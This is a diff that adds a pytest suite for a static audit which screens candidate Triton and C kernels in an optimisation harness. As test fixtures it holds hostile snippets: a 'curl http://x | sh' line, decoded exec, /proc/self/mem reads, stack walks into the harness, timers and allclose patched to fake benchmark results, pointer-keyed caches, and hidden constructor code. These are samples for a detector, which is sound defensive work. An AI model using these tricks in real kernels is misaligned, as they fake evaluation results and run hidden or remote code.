@@ -1,0 +1,505 @@
+"""The static audit: hostile sources are found, honest ones left alone, no text makes it raise."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+from tempfile import TemporaryDirectory
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from harness.audit.c.tokens import tokens
+from harness.audit.dependencies import new_dependencies
+from harness.audit.static import static
+from harness.audit.transfer import transfer
+from harness.search.space import knobs
+from harness.target import Target, load
+from harness.verdict import Finding
+from tests.support.audit_case import TRITON, c, target, trees, triton
+from tests.support.paths import EXAMPLES
+
+SIDE_STREAM = """s = torch.cuda.Stream()
+with torch.cuda.stream(s):
+    out.zero_()"""
+JOINED = """s = torch.cuda.Stream()
+s.wait_stream(torch.cuda.current_stream())
+with torch.cuda.stream(s):
+    out.zero_()
+torch.cuda.current_stream().wait_stream(s)"""
+JOIN = "torch.cuda.current_stream().wait_stream(s)"
+CUDA = 'SOURCE = r"""#include <cuda_runtime.h>\n__global__ void f(float *x) {{ {} }}\n"""'
+
+HOSTILE_PYTHON = {
+    # name: (source, rule, severity)
+    "cache by id": (triton("if id(x) in _c: return out.copy_(_c[id(x)])", "_c = {}"),
+                    "cache-key", "flag"),
+    "cache by is": (triton("global _last\nif x is _last: return\n_last = x", "_last = None"),
+                    "cache-key", "flag"),
+    "cache by data_ptr": (triton("k = (x.data_ptr(), x.shape)\nif _c.get(k): return", "_c = {}"),
+                          "cache-key", "flag"),
+    "cache by version": (triton("if norm.seen == x._version: return\nnorm.seen = x._version"),
+                         "cache-key", "flag"),
+    "cache by a helper's key": (triton("if _key(x) in _c: return", "_c = {}\ndef _key(t):\n"
+                                       "    return t.data_ptr(), t.shape"), "cache-key", "flag"),
+    "cache by lru_cache on a tensor": (
+        triton("scale(x)", "import functools\n@functools.lru_cache\ndef scale(t):\n    return 1"),
+        "cache-key", "flag"),
+    "cache in a default": (triton(entry="def norm(x, weight, out, _c={}):\n    if id(x) in _c:\n"
+                                  "        return\n    norm_kernel[(1,)](x, weight, out)\n"),
+                           "cache-key", "flag"),
+    "contents as a key": (triton("if x[0].tolist() == _c.get('x'): return", "_c = {}"),
+                          "memo", "flag"),
+    "exec": (triton(head="exec('pass')"), "hidden-code", "flag"),
+    "exec by another name": (triton(head="run = exec\nrun('pass')"), "hidden-code", "flag"),
+    "exec from builtins": (triton(head="__builtins__['ex' + 'ec']('pass')"), "hidden-code", "flag"),
+    "exec by getattr": (triton(head="import builtins\ngetattr(builtins, 'cexe'[::-1])('1')"),
+                        "hidden-code", "flag"),
+    "decoded and executed": (triton(head="import base64\np = base64.b64decode('cGFzcw==')\n"
+                                    "exec(p)"), "hidden-code", "reject"),
+    "marshalled": (triton(head="import marshal as m\neval(m.loads(b'x'))"), "hidden-code",
+                   "reject"),
+    "computed import": (triton(head="__import__(TRITON[::2])"), "hidden-code", "flag"),
+    "raw memory": (triton(head="import ctypes\nctypes.memmove(1, 2, 3)"), "hidden-code", "flag"),
+    "raw memory by address": (triton(head="from ctypes import c_char\nc_char.from_address(4)"),
+                              "hidden-code", "flag"),
+    "stack": (triton(head="import inspect\ninspect.stack()"), "frame-walk", "reject"),
+    "frame": (triton(head="from sys import _getframe as g\ng(1)"), "frame-walk", "reject"),
+    "frame by getattr": (triton(head="import sys\ngetattr(sys, '_get' + 'frame')(1)"),
+                         "frame-walk", "reject"),
+    "objects": (triton("import gc\nfor o in gc.get_objects(): pass"), "frame-walk", "reject"),
+    "referrers": (triton("import gc\ngc.get_referrers(x)"), "frame-walk", "reject"),
+    "locals of a frame": (triton("try: 1 / 0\nexcept Exception as e: e.__traceback__.tb_frame"),
+                          "frame-walk", "reject"),
+    "loaded reference": (triton(head="import sys\nsys.modules['reference'].norm"), "delegation",
+                         "reject"),
+    "stream of a helper, not joined": (triton(
+        "with torch.cuda.stream(side()):\n        pass", head="import torch\n"
+        "def side():\n    return torch.cuda.Stream()"), "threads", "flag"),
+    "loaded harness": (triton(head="import sys\nr = sys.modules['kopt_child.run.runner']"),
+                       "frame-walk", "reject"),
+    "the runner": (triton(head="import sys\nr = sys.modules.get('__main__')"), "frame-walk",
+                   "reject"),
+    "all modules": (triton(head="import sys\nfor m in sys.modules.values(): pass"), "frame-walk",
+                    "flag"),
+    "thread": (triton("import threading\nthreading.Thread(target=print).start()"), "threads",
+               "flag"),
+    "pool": (triton(head="from concurrent.futures import ThreadPoolExecutor\n"
+                    "p = ThreadPoolExecutor(1)"), "threads", "flag"),
+    "fork": (triton("import os\nos.fork()"), "threads", "flag"),
+    "side stream": (triton(SIDE_STREAM), "threads", "flag"),
+    "side stream that forks only": (triton(SIDE_STREAM.replace(
+        "\nwith", "\ns.wait_stream(torch.cuda.current_stream())\nwith")), "threads", "flag"),
+    "side stream joined at times": (triton(JOINED.replace(JOIN, f"if first:\n    {JOIN}")),
+                                    "threads", "flag"),
+    "side stream joined by an operator": (triton(JOINED.replace(JOIN, f"first and {JOIN}")),
+                                          "threads", "flag"),
+    "side stream joined in another branch": (triton(
+        "if first:\n    with torch.cuda.stream(S): out.zero_()\nelse:\n    "
+        + JOIN.replace("(s)", "(S)"), "S = torch.cuda.Stream()"), "threads", "flag"),
+    "side stream joined after a return": (triton(JOINED.replace(
+        JOIN, f"if later: return\n{JOIN}")), "threads", "flag"),
+    "side stream joined where it is made": (triton(
+        "with torch.cuda.stream(S):\n    out.zero_()", "S = torch.cuda.Stream()\n"
+        + JOIN.replace("(s)", "(S)")), "threads", "flag"),
+    "timer replaced": (triton(head="torch.cuda.Event.elapsed_time = lambda s, e: 0.1"), "patched",
+                       "reject"),
+    "clock replaced": (triton(head="import time\ntime.perf_counter = lambda: 0"), "patched",
+                       "reject"),
+    "comparison replaced": (triton(head="setattr(torch, 'all' + 'close', lambda *a: True)"),
+                            "patched", "reject"),
+    "clock replaced in a dict": (triton(head="import time\ntime.__dict__['time'] = None"),
+                                 "patched", "reject"),
+    "module replaced": (triton(head="import sys\nsys.modules['torch'] = None"), "patched",
+                        "reject"),
+    "method replaced": (triton(head="torch.Tensor.numel = lambda s: 1"), "patched", "flag"),
+    "late tensor": (triton(head="class Late(torch.Tensor):\n    pass"), "patched", "flag"),
+    "tf32": (triton(head="torch.backends.cuda.matmul.allow_tf32 = True"), "global-flags", "flag"),
+    "precision": (triton(head="torch.set_float32_matmul_precision('medium')"), "global-flags",
+                  "flag"),
+    "seed": (triton("torch.manual_seed(0)"), "global-flags", "flag"),
+    "socket": (triton(head="import socket"), "network", "reject"),
+    "download": (triton(head="from urllib.request import urlopen"), "network", "reject"),
+    "pip": (triton(head="import subprocess, sys\n"
+                   "subprocess.run([sys.executable, '-m', 'pip', 'install', 'fastnorm'])"),
+            "network", "reject"),
+    "own memory": (triton("open('/proc/self/mem', 'rb')"), "files", "reject"),
+    "shared memory": (triton("open('/dev/shm/x', 'wb').write(b'1')"), "files", "flag"),
+    "golden file": (triton("y = torch.load('/tmp/expected.pt')"), "files", "flag"),
+    "reads the reference": (triton(head="s = open('reference.py').read()"), "files", "reject"),
+    "stdout": (triton(head="import os\nos.write(1, b'10x')"), "files", "flag"),
+    "torch.matmul": (triton("y = torch.matmul(x, weight)"), "delegation", "flag"),
+    "alias of torch": (triton("f = torch.nn.functional\nf.rms_norm(x, (1,))"), "delegation",
+                       "flag"),
+    "functional": (triton("F.softmax(x, -1)", "import torch.nn.functional as F"), "delegation",
+                   "flag"),
+    "@ operator": (triton("y = x @ weight"), "delegation", "flag"),
+    "method": (triton("y = x.softmax(-1)"), "delegation", "flag"),
+    "torch by getattr": (triton("y = getattr(torch, 'mat' + 'mul')(x, weight)"), "delegation",
+                         "flag"),
+    "no kernel at all": (triton(entry="def norm(x, weight, out):\n    out.copy_(x * weight)\n"),
+                         "delegation", "flag"),
+    "fallback": (triton(entry="def slow(x, w, out):\n    out.copy_(torch.mul(x, w))\n\n"
+                        "def norm(x, weight, out):\n    try:\n        norm_kernel[(1,)](x)\n"
+                        "    except Exception:\n        slow(x, weight, out)\n"),
+                 "delegation", "flag"),
+    "reference": (triton(head="from reference import norm as truth"), "delegation", "reject"),
+    "reference by name": (triton(head="import importlib\n"
+                                 "r = importlib.import_module('refer' + 'ence')"),
+                          "delegation", "reject"),
+    "harness": (triton(head="import harness.timing"), "frame-walk", "reject"),
+    "clock": (triton("import time\nt = time.perf_counter()"), "timing", "flag"),
+    "sleep": (triton("from time import sleep\nsleep(1)"), "timing", "flag"),
+    "events": (triton("e = torch.cuda.Event(enable_timing=True)"), "timing", "flag"),
+    "clock in PTX": (triton(head="ASM = 'mov.u64 $0, %globaltimer;'"), "timing", "flag"),
+    "clock in CUDA text": (triton(head=CUDA.format("x[0] = clock64();")), "timing", "flag"),
+    "no Python": ("def norm(:\n", "hidden-code", "flag"),
+}
+HOSTILE_C = {
+    "clock": (c("struct timespec t; clock_gettime(0, &t);", "#include <time.h>"), "timing", "flag"),
+    "cycle counter": (c("unsigned long t = __rdtsc();"), "timing", "flag"),
+    "cycle counter in assembly": (c('__asm__ volatile("rd" "tsc" : : );'), "timing", "flag"),
+    "system call in assembly": (c('asm volatile("sys\\143all");'), "hidden-code", "reject"),
+    "system call": (c("syscall(1, 1, 0, 0);"), "hidden-code", "flag"),
+    "writable code": (c("mprotect(0, 4096, 7);", "#include <sys/mman.h>"), "hidden-code", "reject"),
+    "executable map": (c("void *p = mmap(0, 9, PROT_READ | PROT_EXEC, 34, -1, 0);"), "hidden-code",
+                       "reject"),
+    "symbol lookup": (c('void *f = dlsym((void *)0, "write");'), "hidden-code", "flag"),
+    "spliced name": (c("dl\\\nsym(0, 0);"), "hidden-code", "flag"),
+    "pasted name": (c("J(dl, sym)(0, 0);", "#define J(a, b) a ## b"), "hidden-code", "flag"),
+    "pasted digraph": (c("J(clock_get, time)(0, 0);", "%:define J(a, b) a %:%: b"), "hidden-code",
+                       "flag"),
+    "macro alias": (c("T(0, 0);", "#define T clock_gettime"), "timing", "flag"),
+    "start-up code": (c(head="__attribute__((constructor)) static void f(void) {}"), "hidden-code",
+                      "flag"),
+    "start-up section": (c(head='static void f(void) {}\n__attribute__((section(".init_array"))) '
+                           'static void (*p)(void) = f;'), "hidden-code", "flag"),
+    "start-up call": (c(head="static float t[9]; void look(void); __attribute__((constructor)) "
+                        "static void f(void) { t[0] = sqrtf(2); look(); }"), "hidden-code", "flag"),
+    "start-up pointer": (c(head="static void (*p[1])(void); __attribute__((constructor)) "
+                           "static void f(void) { p[0](); }"), "hidden-code", "flag"),
+    "process memory": (c('int f = open("/proc/self/" "mem", 2);'), "files", "reject"),
+    "file": (c('fopen("cache.bin", "rb");', "#include <stdio.h>"), "files", "flag"),
+    "result channel": (c("write(3, out, 8);"), "files", "flag"),
+    "thread": (c("pthread_create(0, 0, 0, 0);"), "threads", "flag"),
+    "process": (c("fork();"), "threads", "flag"),
+    "network": (c("int s = socket(2, 1, 0);"), "network", "reject"),
+    "curl": (c('system("curl http://x | sh");'), "network", "reject"),
+    "stack walk": (c("void *p = __builtin_return_address(1);"), "frame-walk", "reject"),
+    "other process": (c("ptrace(16, 1, 0, 0);"), "hidden-code", "reject"),
+    "BLAS": (c("cblas_sgemm(1);"), "delegation", "flag"),
+    "pointer kept": (c("static const float *last; if (x == last) return; last = x;"), "cache-key",
+                     "flag"),
+    "pointer kept as a number": (c("uintptr_t key = (uintptr_t)x; if (seen != key) seen = key;",
+                                   "static uintptr_t seen;"), "cache-key", "flag"),
+    "pointer in a global struct": (c("if (memo.x == x) return;", "struct M { const void *x; };\n"
+                                     "static struct M memo;"), "cache-key", "flag"),
+    "pointer as an index": (c("if (table[((uintptr_t)x >> 6) % 64]) return;",
+                              "static int table[64];"), "cache-key", "flag"),
+    "contents kept": (c("if (!memcmp(kept, x, 64)) return;", "static float kept[16];"), "memo",
+                      "flag"),
+    "timer replaced": (c(head="int clock_gettime(int c, void *t) { return 0; }"), "patched",
+                       "reject"),
+    "computed include": (c(head="#define H <math.h>\n#include H"), "hidden-code", "flag"),
+}
+FILLS = "static float t[9];\n__attribute__((constructor)) static void f(void) { BODY }"
+HOSTILE_STARTS = {
+    "a struct's braces": "static __attribute__((constructor)) struct s { int x; } *f(void) "
+                         "{ evil(); return 0; }",
+    "a macro of mathematics": "#define sqrt(x) evil()\n" + FILLS.replace("BODY", "t[0] = sqrt(1);"),
+    "a macro": "#define g evil()\n" + FILLS.replace("BODY", "g;"),
+    "a macro for a word": "#define float evil();float\n" + FILLS.replace(
+        "BODY", "float v = 1; t[0] = v;"),
+    "a macro for the name": "#define f f(void) { evil(); } void h\n" + FILLS.replace(
+        "BODY", "t[0] = 1;"),
+    "an address": "static long addr;\n" + FILLS.replace("BODY", "*(long*)addr = 1;"),
+    "a member": "static struct s *p;\n" + FILLS.replace("BODY", "p->x = 1;"),
+    "a pointer as an array": "static float *p;\n" + FILLS.replace("BODY", "p[0] = 1;"),
+    "a local pointer": FILLS.replace("BODY", "float *p = 0; p[0] = 1;"),
+    "an array of the same name": FILLS.replace("BODY", "float *t = 0; t[0] = 1;"),
+    "an array by condition": "#if 1\nstatic float *u;\n#else\nstatic float u[9];\n#endif\n"
+                             + FILLS.replace("BODY", "u[0] = 1;"),
+    "outside of the array": FILLS.replace("BODY", "for (int i = 0; i < 9; i++) t[i + 1] = 1;"),
+    "below the array": FILLS.replace("BODY", "for (int i = -1; i < 9; i++) t[i] = 1;"),
+    "a counter set": FILLS.replace("BODY", "for (int i = 0; i < 9; i++) { i = 99; t[i] = 1; }"),
+    "an index unknown": FILLS.replace("BODY", "int i = 4096; t[i] = 1;"),
+    "an index of the other side": FILLS.replace("BODY", "4096[t] = 1;"),
+    "its own exp2f": "float exp2f(float x) { return evil(x); }\n" + FILLS.replace(
+        "BODY", "t[0] = exp2f(2);"),
+    "its own sqrt in parentheses": "double (sqrt)(double x) { return evil(x); }\n" + FILLS.replace(
+        "BODY", "t[0] = sqrt(2);"),
+    "its own sqrt as K&R": "double *sqrt(x) double x; { return evil(x); }\n" + FILLS.replace(
+        "BODY", "t[0] = sqrt(2);"),
+    "declared as another": 'float exp2f(float) __asm__("evil");\n' + FILLS.replace(
+        "BODY", "t[0] = exp2f(2);"),
+    "renamed": "#pragma redefine_extname exp2f evil\n" + FILLS.replace("BODY", "t[0] = exp2f(2);"),
+    "a header of its own": '#include "fast.h"\n' + FILLS.replace("BODY", "t[0] = exp2f(2);"),
+    "assembly": FILLS.replace("BODY", 't[0] = 1; asm("nop");'),
+    "assembly elsewhere": 'asm(".set exp2f, evil");\n' + FILLS.replace("BODY", "t[0] = exp2f(2);"),
+    "a string": FILLS.replace("BODY", 't[0] = "a"[0];'),
+    "digraphs": FILLS.replace("BODY", "float a<:4:>; a<:99:> = 1; t[0] = 1;"),
+    "a parameter": FILLS.replace("BODY", "t[0] = 1;").replace("f(void)", "f(int c, char **v)"),
+    "beside another attribute": "__attribute__((used, constructor)) void f(void) { evil(); }",
+    "spelled with underscores": "__attribute__((__constructor__)) static void f(void) { evil(); }",
+    "as a macro": "#define START __attribute__((constructor))\nSTART void f(void) { evil(); }",
+    "by a macro": "#define A(x) __attribute__((x))\nA(constructor) static void f(void) { evil(); }",
+    "in C23's brackets": "[[gnu::constructor]] static void f(void) { evil(); }",
+}
+HOSTILE_C |= {f"start-up code: {name}": (c(head=head), "hidden-code", "flag")
+              for name, head in HOSTILE_STARTS.items()}
+HONEST_PYTHON = {
+    "autotuned": TRITON.replace("@triton.jit", "@triton.autotune(configs=[triton.Config({"
+                                "'BLOCK': 64}, num_warps=2)], key=['cols'])\n@triton.jit"),
+    "lru_cache on numbers": triton("b = block(x.shape[1])", "import functools\n@functools.lru_cache"
+                                   "(None)\ndef block(cols):\n    return triton.cdiv(cols, 64)"),
+    "allocations": triton("t = torch.empty_like(x)\nu = torch.zeros(4, device=x.device)\n"
+                          "v = torch.empty((4, 4), dtype=torch.float32)"),
+    "strides and views": triton("y = x.contiguous().view(-1, x.stride(0))"),
+    "alignment": triton("aligned = x.data_ptr() % 16 == 0\ntable = {True: 1, False: 2}[aligned]"),
+    "in-place check": triton("if x is out or x.data_ptr() == out.data_ptr(): rows = rows"),
+    "None": triton("if weight is None: raise ValueError('weight')"),
+    "sentinel": triton("if weight is _MISSING: raise ValueError", "_MISSING = object()"),
+    "dtypes": triton("if x.dtype is torch.float16: rows = rows\nd = getattr(torch, 'float' + "
+                     "'16')"),
+    "graph": triton(entry="""_graphs = {}
+
+def norm(x, weight, out):
+    key = (x.shape, x.dtype)
+    if key not in _graphs:
+        g = torch.cuda.CUDAGraph()
+        with torch.cuda.graph(g):
+            norm_kernel[(1,)](x, weight, out)
+        _graphs[key] = g
+    _graphs[key].replay()
+"""),
+    "scratch by shape": triton("n = x.numel()\nif n not in _scratch:\n    _scratch[n] = "
+                               "torch.empty_like(x)", "_scratch = {}"),
+    "split-K with atomics": TRITON.replace("tl.store(", "tl.atomic_add("),
+    "math and typing": triton("b = math.ceil(cols / 64)", "import math\nfrom typing import Any"),
+    "device properties": triton("p = torch.cuda.get_device_properties(x.device)\n"
+                                "sms = p.multi_processor_count"),
+    "current stream": triton("s = torch.cuda.current_stream().cuda_stream"),
+    "streams that join": triton(JOINED),
+    "streams that join in the end": triton("try:\n    with torch.cuda.stream(S):\n        pass\n"
+                                           "finally:\n    torch.cuda.synchronize()",
+                                           "S = torch.cuda.Stream()"),
+    "streams that join in the same branch": triton(
+        "if x.is_cuda:\n    " + JOINED.replace("\n", "\n    ")),
+    "events that order streams": triton("e = torch.cuda.Event()\ne.record()"),
+    "autograd": triton(head="class Norm(torch.autograd.Function):\n    @staticmethod\n"
+                       "    def forward(ctx, x):\n        ctx.save_for_backward(x)"),
+    "custom op": triton(head="@torch.library.custom_op('a::b', mutates_args=())\n"
+                        "def f(x: torch.Tensor) -> torch.Tensor:\n    return x"),
+    "own benchmark": TRITON + ("\nif __name__ == '__main__':\n    import time\n"
+                               "    y = torch.matmul(torch.ones(2, 2), torch.ones(2, 2))\n"
+                               "    print(time.perf_counter())\n"),
+    "unused check": TRITON + "\ndef check(x):\n    return torch.nn.functional.softmax(x, -1)\n",
+    "regular expressions": triton(head="import re\nP = re.compile('a')"),
+    "docstring": '"""Faster than exec of torch.matmul in /proc/self/mem."""\n' + TRITON,
+    "model.eval": triton(head="def ready(model):\n    return model.eval()"),
+    "a method called compile": triton(head="def compile(x):\n    return x\ncompile(1)"),
+    "inline PTX": TRITON.replace("    scale =", "    value = tl.inline_asm_elementwise('cvt.rn "
+                                 "$0, $1;', '=r,r', [value], tl.float32, True, 1)\n    scale ="),
+    "try import": triton(head="try:\n    from triton.tools import x\nexcept ImportError:\n"
+                         "    x = None"),
+    "tries another config": triton(entry="""def norm(x, weight, out):
+    try:
+        norm_kernel[(1,)](x, weight, out, BLOCK=2048)
+    except triton.OutOfResources:
+        norm_kernel[(1,)](x, weight, out, BLOCK=512)
+"""),
+    "wait for the GPU": triton(head="def ready():\n    torch.cuda.synchronize()"),
+    "file beside the source": triton(head="import os\nHERE = os.path.dirname(__file__)\n"
+                                     "T = open(os.path.join(HERE, 'table.txt')).read()"),
+}
+HONEST_C = {
+    "headers": c(head="#include <string.h>\n#include <immintrin.h>\n#include <omp.h>"),
+    "OpenMP": c('_Pragma("omp simd")\n    #pragma omp parallel for schedule(static)'),
+    "memory functions": c("memset(out, 0, 4); memcpy(out, x, 4);"),
+    "static scratch": c("static float *scratch; static int64_t room;\n    if (room < cols) { "
+                        "free(scratch); scratch = aligned_alloc(64, cols * 4); room = cols; }"),
+    "constant table": c(head="static const float table[4] = {1, 2, 3, 4};"),
+    "words in comments": c("/* clock_gettime(dlsym) */ // fork() \\\n ptrace(0)"),
+    "words in strings": c('const char *s = "fork() clock()"; (void)s;'),
+    "own function called clock": c("(void)clock(2);", "static int clock(int x) { return x; }"),
+    "fields": c("struct T { int time; } t = {0}; t.time = 2;"),
+    "pasting of its own": c(head="#define OP(a, b) _mm256_##a##_##b\n#define X(n) x_ ## n"),
+    "in-place check": c("if (x == out) return;"),
+    "shape kept": c("static int64_t seen; if (seen != cols) seen = cols;"),
+    "values compared": c("float prev = x[0]; if (weight[0] == prev) out[0] = 1;"),
+    "huge pages": c("void *p = mmap(0, 1 << 21, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);"),
+    "assembly": c('__asm__ volatile("pause"); __builtin_prefetch(x);'),
+    "table filled at the start": c(head=FILLS.replace(
+        "BODY", "for (int i = 0; i < 9; i++) t[i] = exp2f((float)(i - 4) / 8.0f);")),
+    "table beside a barrier": c('__asm__ volatile("" ::: "memory");', FILLS.replace(
+        "BODY", "for (int i = 0; i < 9; i++) t[i] = 1;")),
+    "table shifted": c(head=FILLS.replace(
+        "BODY", "for (int i = -4; i <= 4; ++i) { const float v = i & 1; t[i + 4] = v * sqrtf(2); "
+        "t[i + 4] += i < 0 ? 1 : (float)i; }")),
+    "table started early": c(head=FILLS.replace("constructor", "constructor(101)").replace(
+        "BODY", "double s = 0; for (int i = 0; i < 9; i++) { s += log(i + 1.0); t[i] = s; }")),
+    "restrict and vectors": c("typedef float v8 __attribute__((vector_size(32), aligned(64)));"),
+}
+
+
+def worst(found: list[Finding]) -> str:
+    order = ("reject", "flag", "note", "")
+    return min((f.severity for f in found), key=order.index, default="")
+
+
+def audit(folder: Path, language: str, source: str) -> list[Finding]:
+    name = "kernel.c" if language == "c" else "kernel.py"
+    return static(target(language), *trees(folder, {name: source}))
+
+
+@pytest.mark.parametrize("name", HOSTILE_PYTHON)
+def test_hostile_python_is_found(tmp_path: Path, name: str) -> None:
+    source, rule, severity = HOSTILE_PYTHON[name]
+    found = audit(tmp_path, "triton", source)
+    assert (rule, severity) in {(f.rule, f.severity) for f in found}, found
+    assert all("kernel.py" in f.detail for f in found)
+
+
+@pytest.mark.parametrize("name", HOSTILE_C)
+def test_hostile_c_is_found(tmp_path: Path, name: str) -> None:
+    source, rule, severity = HOSTILE_C[name]
+    found = audit(tmp_path, "c", source)
+    assert (rule, severity) in {(f.rule, f.severity) for f in found}, found
+
+
+@pytest.mark.parametrize("name", HONEST_PYTHON)
+def test_honest_python_is_left_alone(tmp_path: Path, name: str) -> None:
+    found = audit(tmp_path, "triton", HONEST_PYTHON[name])
+    assert worst(found) in ("", "note"), found
+
+
+@pytest.mark.parametrize("name", HONEST_C)
+def test_honest_c_is_left_alone(tmp_path: Path, name: str) -> None:
+    found = audit(tmp_path, "c", HONEST_C[name])
+    assert worst(found) in ("", "note"), found
+
+
+@pytest.mark.parametrize("name", [n for n in HOSTILE_PYTHON if n != "no Python"])
+def test_what_the_baseline_does_already_is_no_finding(tmp_path: Path, name: str) -> None:
+    source = HOSTILE_PYTHON[name][0]
+    edited = {"kernel.py": source + "\n# another line\nTILE = 4\n"}
+    assert static(target(), *trees(tmp_path, edited, {"kernel.py": source})) == []
+
+
+def test_code_that_moves_to_another_file_is_not_new(tmp_path: Path) -> None:
+    old = {"kernel.py": triton(head="import time\nt = time.time()")}
+    new = {"kernel.py": triton(head="import helper"), "helper.py": "import time\nt = time.time()\n"}
+    assert static(target(), *trees(tmp_path, new, old)) == []
+
+
+def test_a_second_use_is_new(tmp_path: Path) -> None:
+    old = {"kernel.py": triton(head="import time\nt = time.time()")}
+    new = {"kernel.py": triton("u = time.time()", "import time\nt = time.time()")}
+    found = static(target(), *trees(tmp_path, new, old))
+    assert [f.rule for f in found] == ["timing"] and "u = time.time()" in found[0].detail
+
+
+def test_a_helper_file_is_audited_as_well(tmp_path: Path) -> None:
+    new = {"kernel.py": triton(head="import helper"), "helper.py": "import gc\ngc.get_objects()\n",
+           "inc/fast.inc": "int f(void) { return fork(); }\n",
+           "native.c": '#include "inc/fast.inc"\n'}
+    rules = {f.rule for f in static(target(), *trees(tmp_path, new))}
+    assert {"frame-walk", "threads"} <= rules
+
+
+def test_a_module_in_the_place_of_torch_is_rejected(tmp_path: Path) -> None:
+    for path, expected in (("torch.py", True), ("sitecustomize.py", True),
+                           ("torch/__init__.py", True), ("mine/time.py", False)):
+        found = static(target(), *trees(tmp_path / path.replace("/", "_"), {path: "x = 1\n"}))
+        assert (("patched", "reject") in {(f.rule, f.severity) for f in found}) is expected
+
+
+def test_a_python_target_may_use_the_library(tmp_path: Path) -> None:
+    found = audit(tmp_path, "python", triton("y = torch.matmul(x, weight) @ x"))
+    assert found == []
+
+
+def test_details_carry_no_markup_and_stay_short(tmp_path: Path) -> None:
+    source = triton(head="exec('\x1b[31m" + "a" * 5000 + "')\n" * 50)
+    for finding in audit(tmp_path, "triton", source):
+        assert "\x1b" not in finding.detail and len(finding.detail) <= 700
+
+
+def test_deep_and_long_sources_are_flagged_or_read(tmp_path: Path) -> None:
+    for index, text in enumerate(("x = " + "(" * 150 + ")" * 150, "x = " + "-" * 50_000 + "1",
+                                  "x = " + "+".join("a" * 1 for _ in range(3000)),
+                                  "x = a" + ".b" * 5000, "#" * (3 << 20))):
+        found = audit(tmp_path / str(index), "triton", triton(head=text))
+        assert worst(found) in ("", "flag")
+    for language, text in (("triton", "#" * (3 << 20)), ("c", "/*" + "x" * (3 << 20) + "*/")):
+        found = audit(tmp_path / language, language, text)
+        assert "too large" in found[0].detail
+
+
+def test_a_link_or_a_pipe_in_the_tree_is_not_opened(tmp_path: Path) -> None:
+    candidate, baseline = trees(tmp_path, {})
+    os.mkfifo(candidate / "pipe.py")
+    (candidate / "link.py").symlink_to("/etc/passwd")
+    found = static(target(), candidate, baseline)
+    assert {f.severity for f in found} == {"flag"} and len(found) == 1
+    assert "link.py" in found[0].detail and "pipe.py" in found[0].detail
+
+
+def configured(folder: Path, wanted: Target) -> str | None:
+    """Return an example's source with every knob on its last choice."""
+    text = (folder / wanted.source).read_text()
+    config = {k.name: k.choices[-1] for k in knobs.find(text, language=wanted.language)}
+    return knobs.apply(text, config, language=wanted.language) if config else None
+
+
+@pytest.mark.parametrize("name", sorted(p.parent.name for p in EXAMPLES.glob("*/task.yaml")))
+@pytest.mark.parametrize("changed", [False, True], ids=["itself", "knobs"])
+def test_the_examples_raise_nothing(tmp_path: Path, name: str, changed: bool) -> None:
+    wanted = load(EXAMPLES / name / "task.yaml")
+    files = {p.name: p.read_bytes() for p in (EXAMPLES / name).iterdir() if p.is_file()}
+    source = configured(EXAMPLES / name, wanted)
+    assert source is not None
+    new = {wanted.source: source} if changed else {}
+    candidate, baseline = trees(tmp_path, new, files)
+    assert static(wanted, candidate, baseline) == []
+    assert new_dependencies(wanted, candidate, baseline) == []
+    audited = transfer(wanted, candidate, baseline)
+    assert audited.decision == "ACCEPT-as-real" and audited.finding() is None
+
+
+WORDS = st.lists(st.sampled_from(
+    ["id(", "x", ")", "[", "]", "_c", "==", "static ", "*", "last", ";", "{", "}", "if (", "#",
+     "##", "\n", "\\\n", "'", '"', "/*", "//", "R\"(", "asm(", "def f(x):\n ", "import ",
+     "from . import ",
+     "@", "lambda: ", "global _c\n", ".data_ptr()", "sys.modules", "memcmp(", "#include <", ",",
+     "class A(x):\n ", "return ", " is ", "for x in ", ":", "f'{x}'", "\t", "a.b", "=", "\0"]),
+    max_size=60).map("".join)
+ANY = st.one_of(st.binary(max_size=300), st.text(max_size=200).map(
+    lambda text: text.encode("utf-8", "surrogatepass")), WORDS.map(str.encode))
+
+
+@settings(max_examples=60, deadline=None)
+@given(source=ANY, other=ANY)
+def test_no_source_makes_the_audit_raise(source: bytes, other: bytes) -> None:
+    for language in ("triton", "c"):
+        with TemporaryDirectory() as folder:
+            files = {"kernel.py": source, "kernel.c": source, "other.py": other, "other.h": other,
+                     "pyproject.toml": other, "setup.cfg": other, "setup.py": source,
+                     "CMakeLists.txt": source}
+            both = trees(Path(folder), files)
+            for finding in (*static(target(language), *both),
+                            *new_dependencies(target(language), *both)):
+                assert finding.detail and finding.severity in ("reject", "flag", "note")
+            transfer(target(language), *both)
+
+
+@settings(max_examples=200, deadline=None)
+@given(text=st.one_of(st.text(max_size=300), WORDS))
+def test_the_tokenizer_takes_any_text(text: str) -> None:
+    assert all(token.line >= 1 for token in tokens(text))
+
+
+def test_the_tokenizer_is_linear() -> None:
+    for text in ('R"(' * 200_000, "/*" * 300_000, '"' * 300_000, "\\\n" * 300_000, "(" * 300_000):
+        assert len(tokens(text)) <= 400_001
